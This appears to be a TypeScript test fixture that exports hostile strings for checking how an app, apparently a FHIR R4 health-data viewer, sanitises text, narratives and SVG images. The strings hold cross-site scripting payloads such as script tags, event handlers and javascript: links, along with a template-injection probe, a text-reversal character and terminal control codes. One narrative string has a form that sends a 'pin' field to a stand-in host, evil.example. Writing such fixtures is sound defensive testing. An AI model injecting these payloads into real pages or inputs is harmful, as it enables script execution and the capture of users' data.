/** A text that does harm where it is taken for markup, runs other text backwards, and holds control characters. */
export const hostileText =
  '<img src=x onerror="alert(\'fhir\')"><script>alert(1)</script>{{7*7}} \u202Eesrever\u202C \u0000\u0007\u001B[2J =cmd() 5 < 6 & 7'

/** A narrative with everything FHIR R4 forbids in one: script, frame, handler, form, outside image and style. */
export const hostileNarrative =
  '<div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"><script>alert(1)</script><iframe src="javascript:alert(1)"></iframe><form action="https://evil.example/"><input name="pin"/></form><img src="https://evil.example/pixel.png" onerror="alert(1)"/><a href="javascript:alert(1)">Results</a><style>body{display:none}</style></div>'

/** An SVG picture with a script in it: displayed inline, it runs. */
export const hostileSvg =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><rect width="9" height="9"/></svg>'
